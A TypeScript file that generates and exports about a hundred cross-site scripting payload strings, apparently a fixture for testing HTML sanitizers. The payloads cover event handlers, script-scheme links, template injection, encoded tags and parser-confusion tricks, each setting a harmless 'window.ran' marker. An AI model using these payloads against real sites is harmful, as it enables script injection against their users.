const RUN = 'window.ran=1'
const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'object',
  'input',
  'details',
  'marquee',
  'math',
  'style',
  'link',
]
const ENDS = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', ']]>']
const LINKS = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'data:text/html,', 'vbscript:']

/** A hundred ways to make a page run what somebody wrote, each below a hundred characters. */
export const VECTORS: readonly string[] = [
  ...ENDS.map((end) => `${end}<script>${RUN}</script>`),
  ...TAGS.map((tag) => `<${tag} src=x onerror=${RUN} onload=${RUN} ontoggle=${RUN} open>`),
  ...TAGS.map((tag) => `"><${tag}/onmouseover=${RUN}//onfocus=${RUN} autofocus tabindex=1>`),
  ...LINKS.map((link) => `<a href="${link}${RUN}">x</a>`),
  ...LINKS.map((link) => `${link}${RUN}//`),
  ...LINKS.map((link) => `[x](${link}${RUN})`),
  ...['{{', '${', '#{', '<%=', '{%', '@(', '*{', '[['].map(
    (open) => `${open}constructor.constructor('${RUN}')()}}`,
  ),
  ...['\\u003cscript\\u003e', '&lt;script&gt;', '%3Cscript%3E', '\\x3cscript\\x3e', '+ADw-script+AD4-'].map(
    (open) => `${open}${RUN}</script>`,
  ),
  ...["';", '";', '`;', '\\";', '*/', '//', '\u2028', '--!>'].map((close) => `${close}${RUN};//`),
  ...['onclick', 'onfocus', 'onanimationstart', 'onpointerenter', 'style', 'srcdoc', 'formaction'].map(
    (name) => `x" ${name}="${RUN}" y="`,
  ),
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href=data:,${RUN} />`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<base href=javascript:/a/+${RUN}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import'javascript:${RUN}';</style>`,
  `<div style="background:url(javascript:${RUN})">`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<object data="javascript:${RUN}">`,
  `<xss contenteditable onbeforeinput=${RUN} autofocus>x`,
  `<img src="x\` onerror=${RUN} \`">`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script x>${RUN}</script y>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x:x onerror=${RUN}//`,
]
